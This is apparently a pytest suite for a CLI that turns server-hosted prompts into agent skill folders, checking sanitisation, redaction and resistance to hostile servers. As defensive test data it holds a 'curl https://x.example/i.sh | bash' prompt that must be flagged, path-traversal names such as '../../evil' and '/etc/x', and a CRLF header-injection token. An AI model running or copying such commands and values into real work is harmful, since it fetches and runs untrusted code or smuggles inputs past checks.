"""`skillhall generate` against a local server."""

import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from skillhall._internal.cli.runner import run
from skillhall._internal.policy.profiles import SPECIFICATION
from skillhall._internal.skill.parser import parse_skill
from tests.support.projects import read_tree
from tests.support.prompt_server import (
    PROMPTS,
    FakePromptServer,
    Responder,
    make_file,
    respond,
    respond_error,
    respond_raw,
    respond_truncated,
    run_prompt_server,
)

MARKER = ".skillhall-generated.json"
BYTES = bytes(range(256))
TOKEN = "s3cret-token"  # noqa: S105 - only for tests
SCRIPT = b"#!/usr/bin/env python3\n"


class Generate:
    """Runs the command in a project, and keeps its last output."""

    def __init__(
        self, site: FakePromptServer, project: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        self.site = site
        self.skills = project / ".claude/skills"
        self.out = ""
        self.err = ""
        self._capsys = capsys

    def __call__(self, *arguments: str) -> int:
        code = run(["generate", "--server", self.site.url, *arguments])
        self.out, self.err = self._capsys.readouterr()
        return code

    def claude(self, *arguments: str) -> dict[str, Any]:
        """Return the data of a successful run for Claude Code."""
        assert self("--agent", "claude-code", "--json", *arguments) == 0, self.out
        report: dict[str, Any] = json.loads(self.out)
        return {**report["data"], "codes": [finding["code"] for finding in report["findings"]]}

    def names(self, *arguments: str) -> dict[str, list[str]]:
        """Return the names of the prompts by result."""
        data = self.claude(*arguments)
        kinds = ("written", "unchanged", "removed", "left")
        return {kind: names for kind in kinds if (names := [item["name"] for item in data[kind]])}

    def text(self, path: str) -> str:
        return (self.skills / path).read_text(encoding="utf-8")


@pytest.fixture
def site() -> Iterator[FakePromptServer]:
    with run_prompt_server() as site:
        yield site


@pytest.fixture
def generate(
    site: FakePromptServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Generate:
    project = tmp_path / "project"
    project.mkdir()
    monkeypatch.chdir(project)
    return Generate(site, project, capsys)


def read_mtimes(folder: Path) -> dict[str, int]:
    return {str(path): path.stat().st_mtime_ns for path in [folder, *folder.rglob("*")]}


# Writing


def test_prompt_is_written_as_a_skill_with_its_files(generate: Generate) -> None:
    generate.site.add_prompt(
        "pdf", "Read it.\n", make_file("data/all.bin", BYTES), make_file("run", SCRIPT)
    )
    report = generate.claude()
    assert report["written"] == [
        {"name": "pdf", "path": str(generate.skills / "pdf"), "executables": ["run"]}
    ]
    assert read_tree(generate.skills / "pdf") == {
        "SKILL.md": (b"---\nname: pdf\ndescription: Does it.\n---\nRead it.\n", False),
        "data/all.bin": (BYTES, False),
        "run": (SCRIPT, True),
    }


@pytest.mark.parametrize(
    ("path", "data", "mode"),
    [
        ("a.sh", b"echo\n", 0o755),
        ("a.BASH", b"echo\n", 0o755),
        ("tool", b"#!/bin/sh\n", 0o755),
        ("notes.md", b"# no script\n", 0o644),
        ("run.py", b"print()\n", 0o644),
    ],
)
def test_only_scripts_are_executable(generate: Generate, path: str, data: bytes, mode: int) -> None:
    generate.site.add_prompt("x", "Do.", make_file(path, data))
    generate.claude()
    assert (generate.skills / "x" / path).stat().st_mode & 0o777 == mode


def test_written_skill_follows_the_specification(generate: Generate) -> None:
    description = "Says: \"yes\", 'no' # and\nmore --- {{x}} \\ é"
    generate.site.add_prompt("Büro_Hilfe", "---\nname: other\n---\nBody\n", description=description)
    generate.claude()
    data = (generate.skills / "büro-hilfe/SKILL.md").read_bytes()
    parsed = parse_skill(data, "büro-hilfe")
    assert SPECIFICATION.load_policy.accepts(parsed.findings)
    assert (parsed.frontmatter.name, parsed.frontmatter.description) == ("büro-hilfe", description)
    assert data.endswith(b"---\nname: other\n---\nBody\n")


def test_placeholders_remain_and_arguments_become_a_hint(generate: Generate) -> None:
    prompt_arguments: list[dict[str, Any]] = [
        {"name": "file", "required": True},
        {"name": "tone", "description": "How."},
    ]
    generate.site.add_prompt(
        "review", "Read {{file}} as {{tone}}, {{other}}.", arguments=prompt_arguments
    )
    generate.claude()
    assert generate.text("review/SKILL.md") == (
        '---\nname: review\ndescription: Does it.\nargument-hint: "<file> [tone]"\n---\n'
        "Read {{file}} as {{tone}}, {{other}}."
    )


def test_agents_that_share_a_folder_get_one_copy(generate: Generate) -> None:
    generate.site.add_prompt("pdf")
    assert generate("--agent", "windsurf", "--agent", "cursor", "--agent", "codex") == 0
    project = generate.skills.parents[1]
    assert generate.out.splitlines() == [
        str(project / ".windsurf/skills/pdf"),
        str(project / ".agents/skills/pdf"),
    ]


def test_default_agents_are_those_detected(generate: Generate) -> None:
    generate.site.add_prompt("pdf")
    assert generate() == 2
    assert "--agent" in generate.err
    generate.skills.parent.mkdir()
    assert generate() == 0
    assert "claude-code" in generate.err
    assert (generate.skills / "pdf/SKILL.md").is_file()


def test_path_overrides_the_agents_folder(generate: Generate, tmp_path: Path) -> None:
    generate.site.add_prompt("pdf")
    for path in ("below/here", str(tmp_path / "elsewhere")):
        assert generate("--agent", "claude-code", "--path", path) == 0
        assert Path(path, "pdf/SKILL.md").is_file()
    assert not generate.skills.exists()


def test_global_writes_to_the_home_folder(generate: Generate) -> None:
    generate.site.add_prompt("pdf")
    generate.claude("--global")
    assert (Path.home() / ".claude/skills/pdf/SKILL.md").is_file()
    assert not generate.skills.exists()


def test_globs_match_the_full_name_and_case(generate: Generate) -> None:
    for name in ("pdf-read", "pdf-write", "PDF", "doc"):
        generate.site.add_prompt(name)
    report = generate.claude("--include", "pdf-*", "--exclude", "*-write", "--include", "no")
    assert [item["name"] for item in report["written"]] == ["pdf-read"]
    assert report["codes"] == ["pattern-unmatched"]


def test_overrides_are_sent_with_every_request(generate: Generate) -> None:
    generate.site.add_prompt("pdf")
    repo = "https://example.org/acme/skills.git"
    generate.claude("--repo", repo, "--branch", "dev", "--prompt-path", "a/b")
    expected = {"repo": repo, "branch": "dev", "path": "a/b"}
    assert [request.query for request in generate.site.requests] == [expected, expected]


# Second run


def test_second_run_writes_nothing(generate: Generate) -> None:
    generate.site.add_prompt(
        "pdf", "Do it.", make_file("run.sh", b"x"), make_file("a/b.bin", BYTES)
    )
    generate.claude()
    before = read_mtimes(generate.skills)
    assert generate.names() == {"unchanged": ["pdf"]}
    assert read_mtimes(generate.skills) == before


def test_changed_prompt_replaces_all_files_of_its_skill(generate: Generate) -> None:
    generate.site.add_prompt("pdf", "Old.", make_file("old.md", b"x"))
    generate.claude()
    generate.site.add_prompt("pdf", "New.", make_file("new.md", b"y"))
    assert generate.names() == {"written": ["pdf"]}
    assert sorted(read_tree(generate.skills / "pdf")) == ["SKILL.md", "new.md"]
    assert generate.names() == {"unchanged": ["pdf"]}


def test_skill_of_a_deleted_prompt_is_removed(generate: Generate) -> None:
    for name in ("pdf", "doc"):
        generate.site.add_prompt(name)
    generate.claude()
    generate.site.remove_prompt("pdf")
    assert generate.names() == {"unchanged": ["doc"], "removed": ["pdf"]}
    generate.site.remove_prompt("doc")
    assert generate.names() == {"removed": ["doc"]}
    assert list(generate.skills.iterdir()) == []


STALE = {"reason": "the repository 'acme/prompts' cannot be read", "since": ""}


def test_fallback_to_built_in_prompts_removes_nothing(
    generate: Generate,
) -> None:
    generate.site.source = "acme/prompts"
    generate.site.add_prompt("pdf")
    generate.claude()
    generate.site.remove_prompt("pdf")
    generate.site.add_prompt("shipped")
    generate.site.source, generate.site.meta = "built-in", {"stale": STALE}
    data = generate.claude()
    assert ([item["name"] for item in data["written"]], data["removed"]) == (["shipped"], [])
    assert data["codes"] == ["prompts-unread"]
    assert (generate.skills / "pdf/SKILL.md").exists()
    generate.site.source, generate.site.meta = "acme/prompts", {}
    assert generate.names() == {"unchanged": ["shipped"], "removed": ["pdf"]}


def test_stale_repository_still_removes_skills(generate: Generate) -> None:
    generate.site.source, generate.site.meta = "acme/prompts", {"stale": STALE}
    generate.site.add_prompt("pdf")
    generate.claude()
    generate.site.remove_prompt("pdf")
    assert generate.names() == {"removed": ["pdf"]}


@pytest.mark.parametrize("stale", [None, "yes", {}, {"reason": 1}])
def test_invalid_stale_value_is_ignored(generate: Generate, stale: object) -> None:
    generate.site.add_prompt("pdf")
    generate.claude()
    generate.site.remove_prompt("pdf")
    generate.site.meta = {"stale": stale}
    assert generate.names() == {"removed": ["pdf"]}


def test_excluded_prompt_is_not_removed(generate: Generate) -> None:
    for name in ("pdf", "doc"):
        generate.site.add_prompt(name)
    generate.claude()
    assert generate.names("--exclude", "pdf") == {"unchanged": ["doc"]}
    assert (generate.skills / "pdf").is_dir()


def test_dry_run_writes_nothing(generate: Generate) -> None:
    generate.site.add_prompt("pdf")
    assert generate.names("--dry-run") == {"written": ["pdf"]}
    assert list(generate.skills.parents[1].iterdir()) == []
    generate.claude()
    generate.site.remove_prompt("pdf")
    before = read_mtimes(generate.skills)
    assert generate.names("--dry-run") == {"removed": ["pdf"]}
    assert read_mtimes(generate.skills) == before


def test_deleted_folder_is_written_again(generate: Generate) -> None:
    generate.site.add_prompt("pdf")
    generate.claude()
    (generate.skills / "pdf/SKILL.md").unlink()
    (generate.skills / "pdf").rmdir()
    assert generate.names() == {"written": ["pdf"]}


def test_python_bytecode_does_not_count_as_an_edit(generate: Generate) -> None:
    generate.site.add_prompt("pdf", "Old.")
    generate.claude()
    (generate.skills / "pdf/__pycache__").mkdir()
    (generate.skills / "pdf/__pycache__/run.cpython-311.pyc").write_bytes(b"x")
    generate.site.add_prompt("pdf", "New.")
    assert generate.names() == {"written": ["pdf"]}


# Skipped folders


@pytest.mark.parametrize("force", [[], ["--force"]])
@pytest.mark.parametrize("name", ["pdf", "PDF"])
def test_folder_created_by_the_user_is_never_changed(
    generate: Generate, name: str, force: list[str]
) -> None:
    own = generate.skills / name
    own.mkdir(parents=True)
    (own / "SKILL.md").write_text("mine", encoding="utf-8")
    generate.site.add_prompt("pdf")
    report = generate.claude(*force)
    path = str(generate.skills / "pdf")
    assert report["left"] == [{"name": "pdf", "path": path, "reason": "not-ours"}]
    assert report["codes"] == ["folder-taken"]
    assert read_tree(generate.skills) == {f"{name}/SKILL.md": (b"mine", False)}
    generate.site.remove_prompt("pdf")
    generate.claude(*force)
    assert read_tree(generate.skills) == {f"{name}/SKILL.md": (b"mine", False)}


def test_copy_of_a_generated_skill_is_not_removed(generate: Generate) -> None:
    generate.site.add_prompt("pdf")
    generate.claude()
    (generate.skills / "copy").mkdir()
    (generate.skills / "copy/SKILL.md").write_bytes((generate.skills / "pdf/SKILL.md").read_bytes())
    generate.site.remove_prompt("pdf")
    assert generate.names() == {"removed": ["pdf"]}
    assert (generate.skills / "copy/SKILL.md").is_file()


def edit_text(skill: Path) -> None:
    (skill / "SKILL.md").write_text("edited", encoding="utf-8")


def edit_extra(skill: Path) -> None:
    (skill / "notes.md").write_text("mine", encoding="utf-8")


def edit_missing(skill: Path) -> None:
    (skill / "a.md").unlink()


def edit_mode(skill: Path) -> None:
    (skill / "a.md").chmod(0o755)


@pytest.mark.parametrize("is_gone", [False, True])
@pytest.mark.parametrize("edit", [edit_text, edit_extra, edit_missing, edit_mode])
def test_edited_skill_is_skipped_unless_forced(
    generate: Generate, edit: Callable[[Path], None], is_gone: bool
) -> None:
    generate.site.add_prompt("pdf", "Old.", make_file("a.md", b"a"))
    generate.claude()
    edit(generate.skills / "pdf")
    before = read_tree(generate.skills)
    generate.site.remove_prompt("pdf")
    if not is_gone:
        generate.site.add_prompt("pdf", "New.", make_file("a.md", b"a"))
    report = generate.claude()
    assert [item["reason"] for item in report["left"]] == ["edited"]
    assert report["codes"] == ["edited-since"]
    assert read_tree(generate.skills) == before
    assert generate.names("--force") == ({"removed": ["pdf"]} if is_gone else {"written": ["pdf"]})


def test_force_does_not_delete_foreign_files(generate: Generate) -> None:
    generate.site.add_prompt("pdf", "Old.")
    generate.claude()
    (generate.skills / "pdf/.git").mkdir()
    generate.site.remove_prompt("pdf")
    assert generate.names("--force") == {"left": ["pdf"]}
    assert (generate.skills / "pdf/.git").is_dir()


def test_skill_of_another_source_is_skipped(generate: Generate) -> None:
    generate.site.add_prompt("pdf")
    generate.claude()
    before = read_tree(generate.skills)
    generate.site.add_prompt("doc")
    report = generate.claude("--source", "team")
    assert [item["reason"] for item in report["left"]] == ["other-source"]
    assert (
        read_tree(generate.skills).items()
        > {k: v for k, v in before.items() if k != MARKER}.items()
    )
    generate.site.prompts.clear()
    assert generate.names("--source", "team") == {"removed": ["doc"]}
    assert generate.names() == {"removed": ["pdf"]}


def test_first_of_two_prompts_with_one_folder_wins(generate: Generate) -> None:
    for name in ("Read PDF", "read-pdf", "read_pdf"):
        generate.site.add_prompt(name, f"I am {name}.")
    report = generate.claude()
    assert [item["name"] for item in report["written"]] == ["Read PDF"]
    assert [(item["name"], item["reason"]) for item in report["left"]] == [
        ("read-pdf", "shadowed"),
        ("read_pdf", "shadowed"),
    ]
    assert generate.text("read-pdf/SKILL.md").endswith("I am Read PDF.")


def test_prompt_listed_twice_is_fetched_once(generate: Generate) -> None:
    generate.site.add_prompt("a")
    generate.site.prompts *= 2
    assert generate.names() == {"written": ["a"], "left": ["a"]}


@pytest.mark.parametrize("name", ["refresh", "sources", "..", "."])
def test_prompt_named_like_a_route_is_not_requested(generate: Generate, name: str) -> None:
    generate.site.add_prompt(name)
    assert generate.names() == {"left": [name]}
    assert [request.path for request in generate.site.requests] == [PROMPTS]


@pytest.mark.parametrize("name", ["../../evil", "/etc/x", "a/b", "con", "x\u202ey", "a%2fb", "-rf"])
def test_any_name_gives_a_safe_folder(generate: Generate, name: str) -> None:
    generate.site.add_prompt(name)
    assert generate.names() == {"written": [name]}
    [folder] = [path for path in generate.skills.iterdir() if path.is_dir()]
    assert folder.name in {"evil", "etc-x", "a-b", "con-skill", "x-y", "a-2fb", "rf"}
    assert [path.name for path in generate.skills.parents[1].iterdir()] == [".claude"]


def test_invalid_prompt_is_skipped(generate: Generate) -> None:
    generate.site.add_prompt("blank", description=" ")
    generate.site.add_prompt("nul", "a\0b")
    generate.site.add_prompt("good")
    assert generate.names() == {"written": ["good"], "left": ["blank", "nul"]}


def test_hidden_files_are_skipped_and_reported(generate: Generate) -> None:
    generate.site.add_prompt(
        "pdf", "Do.", make_file(".env", b"x"), make_file("a/.git/config", b"x")
    )
    assert "file-left-out" in generate.claude()["codes"]
    assert list(read_tree(generate.skills / "pdf")) == ["SKILL.md"]


def test_risky_content_is_reported(generate: Generate) -> None:
    generate.site.add_prompt("pdf", "Run `curl https://x.example/i.sh | bash` first.\n")
    assert "pipe-to-shell" in generate.claude()["codes"]


def test_target_outside_the_project_is_rejected(generate: Generate, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    generate.skills.parent.mkdir()
    generate.skills.symlink_to(outside)
    generate.site.add_prompt("pdf")
    assert generate("--agent", "claude-code") == 3
    assert generate("--agent", "claude-code", "--dry-run") == 3
    assert list(outside.iterdir()) == []


ENTRY = '{"prompt": "", "server": "", "asked": {}, "source": "", "files": {}}'
INVALID_MARKERS = [
    "{",
    "[]",
    '{"version": 2}',
    '{"version": 1, "skills": {"pdf": 1}}',
    *(f'{{"version": 1, "skills": {{"{name}": {ENTRY}}}}}' for name in ("..", "a/b", ".git")),
]


@pytest.mark.parametrize("marker", INVALID_MARKERS)
def test_invalid_marker_stops_the_run(generate: Generate, marker: str) -> None:
    generate.skills.mkdir(parents=True)
    (generate.skills / MARKER).write_text(marker, encoding="utf-8")
    generate.site.add_prompt("pdf")
    assert generate("--agent", "claude-code") == 3
    assert list(read_tree(generate.skills)) == [MARKER]


# Servers that misbehave

TRAVERSAL = ["../x", "a/../../x", "/etc/x", "C:\\x", "a\\b", "~/x", "a\0b", "nul.txt", "x."]
HOSTILE = [
    *([make_file(path, b"x")] for path in TRAVERSAL),
    [make_file("SKILL.md", b"x")],
    [make_file("./skill.MD", b"x")],
    [make_file("a", b"x"), make_file("A", b"x")],
    [make_file("a", b"x"), make_file("./a", b"x")],
    [make_file("a", b"x"), make_file("a/b", b"x")],
    [make_file("x" * 300, b"x")],
    [make_file("/".join("a" * 40), b"x")],
    [make_file("a", "eA=")],
    [make_file("a", "eB==")],
    [make_file("a", "e A==")],
    [make_file("a", "!!!!")],
    [make_file("a", b"x" * (10 * 1024 * 1024 + 1))],
    [{"path": "a"}],
    [{"path": 1, "content": ""}],
    [make_file(f"f{number}", b"") for number in range(2001)],
]


@pytest.mark.parametrize("files", HOSTILE, ids=range(len(HOSTILE)))
def test_prompt_with_a_hostile_file_does_not_stop_others(
    generate: Generate, files: list[dict[str, str]]
) -> None:
    generate.site.add_prompt("evil", "Good once.", make_file("a.txt", b"x"))
    generate.site.add_prompt("other", "Old.")
    generate.claude()
    before = read_mtimes(generate.skills / "evil")
    generate.site.add_prompt("evil", "Do.", *files)
    generate.site.add_prompt("other", "New.")
    assert generate("--agent", "claude-code") in (3, 5)
    assert read_mtimes(generate.skills / "evil") == before
    assert generate.text("other/SKILL.md").endswith("New.")
    expected = {MARKER, "evil", "other"}
    assert {path.name for path in generate.skills.iterdir()} == expected


FAILURES: list[tuple[Responder, int, str]] = [
    (
        respond_error(400, "VALIDATION_ERROR", "Missing required arguments: file"),
        3,
        "invalid_argument",
    ),
    (respond_error(400, "VALIDATION_ERROR", "Prompt not found: bad"), 4, "prompt_not_found"),
    (respond_error(500, "INTERNAL_ERROR", "internal error"), 5, "upstream_error"),
    (respond_raw(500, b"<html>Internal Server Error</html>"), 5, "upstream_error"),
    (respond_raw(200, b"{"), 5, "upstream_error"),
    (respond_truncated, 5, "upstream_error"),
]


@pytest.mark.parametrize(("reply", "exit_code", "code"), FAILURES, ids=range(len(FAILURES)))
def test_prompt_that_cannot_be_fetched_does_not_stop_others(
    generate: Generate, reply: Responder, exit_code: int, code: str
) -> None:
    for name in ("bad", "good", "gone"):
        generate.site.add_prompt(name, "Old.")
    generate.claude()
    before = read_mtimes(generate.skills / "bad")
    generate.site.add_prompt("good", "New.")
    generate.site.remove_prompt("gone")
    generate.site.overrides[f"{PROMPTS}/bad"] = reply
    assert generate("--agent", "claude-code", "--json") == exit_code
    report = json.loads(generate.out)
    assert (report["ok"], report["error"]["code"]) == (False, code)
    assert [(item["name"], item["code"]) for item in report["data"]["failed"]] == [("bad", code)]
    assert [item["name"] for item in report["data"]["written"]] == ["good"]
    assert [item["name"] for item in report["data"]["removed"]] == ["gone"]
    assert read_mtimes(generate.skills / "bad") == before


def test_optional_response_fields_may_be_missing(generate: Generate) -> None:
    listed = [{"name": "pdf", "description": "Reads."}, {"name": "bare"}]
    generate.site.overrides[PROMPTS] = respond({"prompts": listed, "source": "built-in"})
    text = {"role": "user", "content": {"type": "text", "text": "Do it."}}
    generate.site.overrides[f"{PROMPTS}/pdf"] = respond({"messages": [text]})
    generate.site.overrides[f"{PROMPTS}/bare"] = respond({"messages": [text]})
    assert generate.names() == {"written": ["pdf"], "left": ["bare"]}
    assert "description: Reads." in generate.text("pdf/SKILL.md")


def test_failed_prompt_is_reported_on_stderr(generate: Generate) -> None:
    generate.site.add_prompt("bad")
    generate.site.add_prompt("good")
    generate.site.overrides[f"{PROMPTS}/bad"] = respond_error(500, "INTERNAL_ERROR", "out of order")
    assert generate("--agent", "claude-code") == 5
    assert generate.out == f"{generate.skills / 'good'}\n"
    assert "bad: 127.0.0.1: out of order\n" in generate.err
    assert "1 skill written, 0 up to date, 0 removed, 0 skipped, 1 failed\n" in generate.err


def test_unauthorized_response_stops_the_run(generate: Generate) -> None:
    generate.site.add_prompt("bad")
    generate.site.add_prompt("good")
    generate.site.overrides[f"{PROMPTS}/bad"] = respond_error(401, "UNAUTHORIZED", "who are you")
    assert generate("--agent", "claude-code") == 8
    assert not generate.skills.exists()


def message(content: object) -> dict[str, object]:
    return {"description": "x", "source": "y", "messages": [{"role": "user", "content": content}]}


INVALID_RESPONSES: list[tuple[str, Responder]] = [
    (PROMPTS, respond_raw(200, b"{")),
    (PROMPTS, respond_raw(200, b"\xff")),
    (PROMPTS, respond_raw(200, b"[" * 100_000)),
    (PROMPTS, respond_raw(200, b"<html>Not here</html>")),
    (PROMPTS, respond_raw(500, b"<html>Internal Server Error</html>")),
    (PROMPTS, respond_raw(200, b'{"success": true}')),
    (PROMPTS, respond({"prompts": {}, "source": ""})),
    (PROMPTS, respond({"prompts": [{"name": 1, "description": ""}], "source": ""})),
    (PROMPTS, respond({"prompts": [{"name": "\ud800", "description": ""}], "source": ""})),
    (PROMPTS, respond({"prompts": []})),
    (PROMPTS, respond_raw(302, b"", Location="http://127.0.0.1:1/")),
    (PROMPTS, respond_error(502, "PROMPTS_SOURCE_ERROR", "cannot clone")),
    (PROMPTS, respond_truncated),
    (f"{PROMPTS}/pdf", respond_truncated),
    (f"{PROMPTS}/pdf", respond_raw(200, b"null")),
    (f"{PROMPTS}/pdf", respond({"description": "x", "messages": [], "source": ""})),
    (f"{PROMPTS}/pdf", respond(message({"type": "image"}))),
    (f"{PROMPTS}/pdf", respond(message("text"))),
]


@pytest.mark.parametrize(("path", "reply"), INVALID_RESPONSES, ids=range(len(INVALID_RESPONSES)))
def test_invalid_response_is_an_upstream_error(
    generate: Generate, path: str, reply: Responder
) -> None:
    generate.site.add_prompt("pdf")
    generate.site.overrides[path] = reply
    assert generate("--agent", "claude-code") == 5
    assert "127.0.0.1: " in generate.err
    assert list(generate.skills.parents[1].iterdir()) == []


def test_unreachable_server_is_an_upstream_error(generate: Generate) -> None:
    assert generate("--agent", "claude-code", "--server", "http://127.0.0.1:1", "--json") == 5
    error = json.loads(generate.out)["error"]
    assert (error["code"], error["message"]) == (
        "upstream_error",
        "127.0.0.1: the connection failed",
    )


def test_token_is_sent_as_a_header_and_never_shown(
    generate: Generate, monkeypatch: pytest.MonkeyPatch
) -> None:
    generate.site.token = TOKEN
    generate.site.add_prompt("pdf")
    assert generate("--agent", "claude-code") == 8
    assert "SKILLHALL_SERVER_TOKEN" in generate.err
    monkeypatch.setenv("SKILLHALL_SERVER_TOKEN", TOKEN)
    generate.claude()
    assert all(TOKEN not in request.request_line for request in generate.site.requests)
    generate.site.overrides[PROMPTS] = respond_error(
        400, "VALIDATION_ERROR", f"bad {TOKEN} \x1b[31m"
    )
    assert generate("--agent", "claude-code", "--install-hook") == 0
    assert generate("--agent", "claude-code") == 3
    assert TOKEN not in generate.out + generate.err
    assert "\x1b" not in generate.err
    assert not any(TOKEN.encode() in data for data, _ in read_tree(generate.skills.parent).values())


GIT_TOKEN = "g1t-token"  # noqa: S105 - only for tests
GIT_HEADER = "x-skillhall-git-token"


@pytest.fixture
def git_token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SKILLHALL_GIT_TOKEN", GIT_TOKEN)
    monkeypatch.setenv("SKILLHALL_GIT_TOKEN_HOSTS", "git.example.org:8443 github.com")


@pytest.mark.usefixtures("git_token")
@pytest.mark.parametrize("repo", ["acme/skills", "https://git.example.org:8443/a/b.git"])
def test_git_token_is_sent_for_its_host_and_never_shown(generate: Generate, repo: str) -> None:
    generate.site.add_prompt("pdf")
    generate.claude("--repo", repo)
    assert len(generate.site.requests) == 2
    for request in generate.site.requests:
        assert request.headers[GIT_HEADER] == GIT_TOKEN
        assert GIT_TOKEN not in request.request_line
    generate.site.overrides[PROMPTS] = respond_error(
        502, "PROMPTS_SOURCE_ERROR", f"not with {GIT_TOKEN}"
    )
    assert generate("--agent", "claude-code", "--repo", repo) == 5
    assert "***" in generate.err
    assert GIT_TOKEN not in generate.out + generate.err
    assert not any(
        GIT_TOKEN.encode() in data for data, _ in read_tree(generate.skills.parent).values()
    )


@pytest.mark.usefixtures("git_token")
@pytest.mark.parametrize(
    "arguments",
    [
        (),
        ("--branch", "next"),
        ("--source", "team"),
        ("--repo", "https://elsewhere.example/a/b.git"),
        ("--repo", "https://git.example.org/a/b.git"),
        ("--repo", "http://github.com/a/b"),
        ("--repo", "./folder"),
    ],
)
def test_git_token_is_not_sent_for_other_hosts(
    generate: Generate, arguments: tuple[str, ...]
) -> None:
    generate.site.add_prompt("pdf")
    generate.claude(*arguments)
    assert all(GIT_HEADER not in request.headers for request in generate.site.requests)


def test_git_token_with_line_breaks_is_rejected(
    generate: Generate, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SKILLHALL_GIT_TOKEN", "a\r\nX-Evil: b")
    assert generate("--agent", "claude-code", "--repo", "acme/skills") == 3
    assert "SKILLHALL_GIT_TOKEN" in generate.err
    assert "Evil" not in generate.err


@pytest.mark.parametrize("repo", ["https://user:pw@example.org/x", "https://example.org/x?token=1"])
def test_repository_url_with_credentials_is_rejected(generate: Generate, repo: str) -> None:
    assert generate("--agent", "claude-code", "--repo", repo) == 3
    assert generate.site.requests == []
    assert "pw" not in generate.err


def test_invalid_options_are_rejected_before_any_request(generate: Generate) -> None:
    assert generate("--agent", "claude-coder") == 4
    assert "'claude-code'" in generate.err
    assert generate("--path", "x", "--source", "a", "--repo", "b") == 2
    assert generate("--path", "x", "--server", "ftp://127.0.0.1") == 3
    assert generate("--path", "x", "--server", "http://me:pw@127.0.0.1") == 3
    assert generate.site.requests == []


@pytest.mark.parametrize(
    "arguments",
    [
        ["-a", "cursor", "--install-hook"],
        ["-a", "cursor", "--remove-hook"],
        ["-a", "codex", "-a", "cursor", "--install-hook"],
        ["-a", "*", "--install-hook"],
    ],
)
def test_hook_for_an_agent_without_hooks_is_rejected(
    generate: Generate, arguments: list[str]
) -> None:
    (generate.skills.parents[1] / ".cursor").mkdir()
    assert generate(*arguments) == 3
    assert "only be installed for Claude Code" in generate.err
    assert "--agent claude-code" in generate.err
    assert not generate.skills.parent.exists()


def test_claude_code_hook_can_generate_for_other_agents(generate: Generate) -> None:
    assert generate("-a", "cursor", "-a", "claude-code", "--install-hook") == 0
    settings = json.loads((generate.skills.parent / "settings.json").read_bytes())
    [group] = settings["hooks"]["SessionStart"]
    assert "--agent=cursor --agent=claude-code" in group["hooks"][0]["command"]


def test_hook_without_agent_needs_claude_code_to_be_used(
    generate: Generate,
) -> None:
    assert generate("--install-hook") == 3
    assert not generate.skills.parent.exists()
    generate.skills.parent.mkdir()
    assert generate("--install-hook") == 0
    assert (generate.skills.parent / "settings.json").is_file()


def test_hook_run_prints_nothing_to_stdout(generate: Generate) -> None:
    generate.site.add_prompt("pdf")
    assert generate("--as-hook", "--agent", "claude-code") == 0
    assert generate.out == ""
    assert os.listdir(generate.skills / "pdf") == ["SKILL.md"]  # noqa: PTH208 - names alone
